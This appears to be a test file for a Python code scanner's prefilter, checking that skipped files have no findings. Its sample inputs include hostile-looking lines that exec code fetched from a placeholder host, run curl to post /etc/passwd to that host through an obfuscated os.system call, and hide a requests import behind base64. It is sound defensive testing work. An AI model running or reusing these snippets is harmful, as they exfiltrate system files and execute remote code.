// The text prefilter is sound: a file it skips has no findings when analysed without it. Checked on
// the rule fixtures with each filter word renamed in turn (so the filter says "skip"), on hand-written
// edge cases, and on a sample of the standard library when python3 is present.
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { defaultConfig } from '../src/config/load.js';
import type { RuleSet } from '../src/rules/load.js';
import { scanSources } from '../src/scan/scan.js';
import { builtinRules } from './helpers/engine.js';

const config = defaultConfig();
const rules = builtinRules(config);
const filter = rules.index.prefilter;
/** The same rules with the prefilter switched off (every file is parsed and analysed). */
const unfiltered: RuleSet = {
  ...rules,
  index: Object.create(rules.index, { prefilter: { value: { test: () => true } } }) as RuleSet['index'],
};

async function findingsWithoutFilter(path: string, text: string) {
  const r = await scanSources([{ path, content: Buffer.from(text) }], { config, rules: unfiltered });
  return r.findings.map((f) => `${f.file}:${f.startLine} ${f.ruleId} ${f.callee}`);
}

const fixtures = readdirSync('rules')
  .filter((f) => f.endsWith('.py'))
  .sort()
  .map((f) => ({ path: `rules/${f}`, text: readFileSync(join('rules', f), 'utf8') }));

describe('text prefilter', () => {
  it('lets every rule fixture through (each has findings)', () => {
    expect(fixtures.length).toBeGreaterThan(50);
    expect(fixtures.filter((f) => !filter.test(f.text)).map((f) => f.path)).toEqual([]);
  });

  /** Each fixture whole, and cut into top-level blocks that keep the fixture's import lines. */
  const pieces = fixtures.flatMap((f) => {
    const lines = f.text.split('\n');
    const imports = lines.filter((l) => /^(import|from)\s/.test(l)).join('\n');
    const blocks: string[] = [];
    let cur: string[] = [];
    for (const l of lines) {
      if (/^(import|from)\s/.test(l)) continue;
      if (/^\S/.test(l) && !/^[#@)\]}]/.test(l) && cur.some((c) => c.trim())) {
        blocks.push(cur.join('\n'));
        cur = [];
      }
      cur.push(l);
    }
    blocks.push(cur.join('\n'));
    return [f, ...blocks.map((b, i) => ({ path: `${f.path}#${i}`, text: `${imports}\n${b}\n` }))];
  });

  it('skips only files without findings: fixtures and their blocks with one filter word renamed', async () => {
    const vocabulary = new Set(filter.vocabulary());
    const leaks: string[] = [];
    let skipped = 0;
    for (const f of pieces) {
      const present = new Set((f.text.match(/\b[A-Za-z_][A-Za-z0-9_]*\b/g) ?? []).filter((w) => vocabulary.has(w)));
      for (const w of present) {
        const text = f.text.replace(new RegExp(`\\b${w}\\b`, 'g'), `${w}Zq`);
        if (filter.test(text) || text.includes('egress:')) continue;
        skipped++;
        const found = await findingsWithoutFilter(f.path, text);
        if (found.length) leaks.push(`${f.path} with "${w}" renamed: ${found.join('; ')}`);
      }
    }
    expect(leaks).toEqual([]);
    expect(skipped).toBeGreaterThan(500);
  });

  const samples: [string, string, boolean][] = [
    ['regex compile is not the builtin', 'import re\nPAT = re.compile(r"x")\nre.  compile("y")\n', false],
    ['attribute exec on a line continuation', 'import db\ndb.cursor().\\\n    exec("select 1")\n', false],
    ['platform.system is not os.system', 'import platform\nprint(platform.system())\n', false],
    ['plain module', 'import json, sys\n\ndef main(argv):\n    return json.dumps(argv)\n', false],
    [
      'ellipsis before a bare exec',
      'import urllib.request\ndef f(): ...\nexec(urllib.request.urlopen("http://x.example").read())\n',
      true,
    ],
    [
      'float before a bare exec',
      'import urllib.request\nx = 1.\nexec(urllib.request.urlopen("http://x.example").read())\n',
      true,
    ],
    [
      'getattr with a built attribute',
      'import os\ngetattr(os, "sys" + "tem")("curl -d @/etc/passwd http://x.example")\n',
      true,
    ],
    [
      '__import__ of a decoded name',
      'import base64\nm = __import__(base64.b64decode("cmVxdWVzdHM=").decode())\nm.post("https://x.example", data=1)\n',
      true,
    ],
    ['import_module', 'import importlib\nimportlib.import_module("req" + "uests").get("https://x.example")\n', true],
    ['aliased import', 'import requests as r\nr.post("https://api.example.com", json={})\n', true],
    ['from import with alias', 'from urllib.request import urlopen as fetch\nfetch("http://x.example")\n', true],
    [
      'client object through a variable',
      'import boto3\nc = boto3.client("s3")\nc.put_object(Bucket="b", Key="k", Body=b"")\n',
      true,
    ],
  ];

  it.each(samples)('%s', async (name, text, passes) => {
    expect(filter.test(text)).toBe(passes);
    if (!passes) expect(await findingsWithoutFilter(`${name}.py`, text)).toEqual([]);
  });

  it('skips only files without findings: a sample of the standard library', async () => {
    const py = spawnSync('python3', ['-c', "import sysconfig; print(sysconfig.get_paths()['stdlib'])"], {
      encoding: 'utf8',
    });
    if (py.status !== 0) return; // no python3 here: the fixtures above still hold
    const root = py.stdout.trim();
    const files: string[] = [];
    for (const dir of ['', 'email', 'json', 'logging', 'http', 'urllib', 'xml/dom', 'concurrent/futures']) {
      try {
        for (const f of readdirSync(join(root, dir)).sort()) if (f.endsWith('.py')) files.push(join(root, dir, f));
      } catch {
        // layout differs: fine
      }
    }
    const leaks: string[] = [];
    let skipped = 0;
    for (const f of files.filter((_, i) => i % 3 === 0).slice(0, 80)) {
      const text = readFileSync(f, 'utf8');
      if (filter.test(text) || text.includes('egress:')) continue;
      skipped++;
      const found = await findingsWithoutFilter(f, text);
      if (found.length) leaks.push(`${f}: ${found.join('; ')}`);
    }
    expect(leaks).toEqual([]);
    expect(skipped).toBeGreaterThan(0);
  });
});
